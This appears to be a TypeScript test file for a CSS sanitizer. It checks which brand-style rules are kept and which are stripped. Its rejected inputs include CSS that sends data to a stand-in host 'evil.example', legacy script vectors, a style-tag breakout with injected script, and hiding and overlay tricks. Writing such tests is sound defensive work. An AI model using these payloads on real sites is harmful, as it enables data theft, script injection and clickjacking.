import t from 'tap'
import { sanitizeCss } from '../../src/brand-css/sanitize-css.ts'

const cssOf = async (source: string) => (await sanitizeCss(source)).css

t.test('looks that hide nothing are kept', async (t) => {
  const card = 'main:not(.wide)'
  for (const [source, css] of [
    [
      'button { border-radius: 0; text-transform: UPPERCASE }',
      'button{border-radius:0;text-transform:UPPERCASE}',
    ],
    [
      'button:hover, .secondary { letter-spacing: .05em }',
      'button:hover{letter-spacing:.05em}.secondary{letter-spacing:.05em}',
    ],
    ['main{border:2px solid #c30 !important}', `${card}{border:2px solid #c30}`],
    ['main{box-shadow:0 4px 24px rgba(0,0,0,.2)}', `${card}{box-shadow:0 4px 24px rgba(0,0,0,.2)}`],
    ['main{border-color:var(--accent)}', `${card}{border-color:var(--accent)}`],
    [
      'body{background:linear-gradient(45deg, #c30, oklch(70% 0.1 200)) fixed}',
      'body:not(:has(>.wide)){background:linear-gradient(45deg,#c30,oklch(70%0.1 200)) fixed}',
    ],
    [
      'body { background-image: url("data:image/png;base64,AAAA") }',
      'body:not(:has(>.wide)){background-image:url(data:image/png;base64,AAAA)}',
    ],
    [
      'h1{font-family:"Fraunces", serif;font-size:2rem}',
      'h1{font-family:"Fraunces",serif;font-size:2rem}',
    ],
    ['.logo img{max-height:5rem}/* ours */', '.logo img{max-height:5rem}'],
    [
      '@media (prefers-color-scheme: dark) { main { border-radius: 0 } .x { color: red } }',
      `@media (prefers-color-scheme:dark){${card}{border-radius:0}}`,
    ],
    ['main{border:0', `${card}{border:0}`],
    ['', ''],
  ] as const) {
    t.equal(await cssOf(source), css, source)
  }
})

t.test('what fetches, runs, hides, covers or moves is left out', async (t) => {
  for (const source of [
    // Elsewhere.
    '@import url(https://evil.example/x.css);',
    '@font-face{font-family:x;src:url(https://evil.example/f)}',
    'body{background:url(https://evil.example/?leak)}',
    'body{background-image:url(//evil.example/x.png)}',
    'body{background-image:u\\72l(https://evil.example/)}',
    'body{background-image:image-set("https://evil.example/x" 1x)}',
    'body{background-image:url(data:text/html,x)}',
    'input[value^="a"]{background:url(https://evil.example/a)}',
    // Scripts of old.
    'body{width:expression(alert(1))}',
    'body{behavior:url(x.htc)}',
    'body{-moz-binding:url(x)}',
    // Hiding.
    'li{display:none}',
    '*{opacity:0}',
    '.value,.warning,dl,dd,bdi{visibility:hidden}',
    'main *{color:#fff}',
    'body{color:transparent}',
    'body{font-size:0}',
    'body{font:0/0 a}',
    'h1{font-size:0;font-size:1px;font-size:500rem;font-size:1vw}',
    'h1{letter-spacing:-1em}',
    'h1{font-family:Wingdings}',
    'body{font-family:"Adobe Blank"}',
    'main{box-shadow:inset 0 0 0 64px #fff}',
    'main{border:900px solid}',
    'main{border:1em solid}',
    'h1{font-size:3em}',
    'main{border-radius:100vw}',
    'main{background:#000}',
    ':root{--text:#fff;--surface:#fff;--accent:#eee}',
    '.warning{border:0}',
    // Covering and moving.
    'button{position:fixed;inset:0;z-index:9}',
    'button::before{content:"Deny"}',
    'button{transform:translateX(-99rem);margin:-99rem;padding:0;float:left;order:2}',
    '.secondary{background:var(--accent)}',
    'button{border-color:var(--unknown);border-color:var(--accent, url(x))}',
    'body:has(.warning){background:#000}',
    'body main{border:0}',
    '@supports (display:grid){main{border:0}}',
    '@layer x{main{border:0}}',
    '@keyframes x{to{opacity:0}}',
    'button{&:hover{border:0}}',
    // Out of the style element.
    'h1{font-family:"</style><script>alert(1)</script>"}',
    'h1{font-family:"\\3c/style>"}',
    '@media (width<600px){main{border:0}}',
    '}</style>{',
    '__proto__{border:0}',
    'main{constructor:0;__proto__:0}',
  ]) {
    t.equal(await cssOf(source), '', source)
  }
})

t.test('what is left out is named', async (t) => {
  const source = '@import "x";.pf-c-login{color:red}main{border:0;position:fixed}'
  t.same((await sanitizeCss(source)).ignored, ['@import', '.pf-c-login', 'main{position}'])
  const many = Array.from({ length: 200 }, (_, n) => `.x${n}{}`).join('')
  t.equal((await sanitizeCss(many)).ignored.length, 50)
})

t.test('a sheet that is no sheet costs nothing', async (t) => {
  const started = performance.now()
  for (const part of ['{', '(', '/*', '@media ', 'a,', 'main{border:', '\\']) {
    await sanitizeCss(part.repeat(40_000))
  }
  t.ok(performance.now() - started < 5000)
})
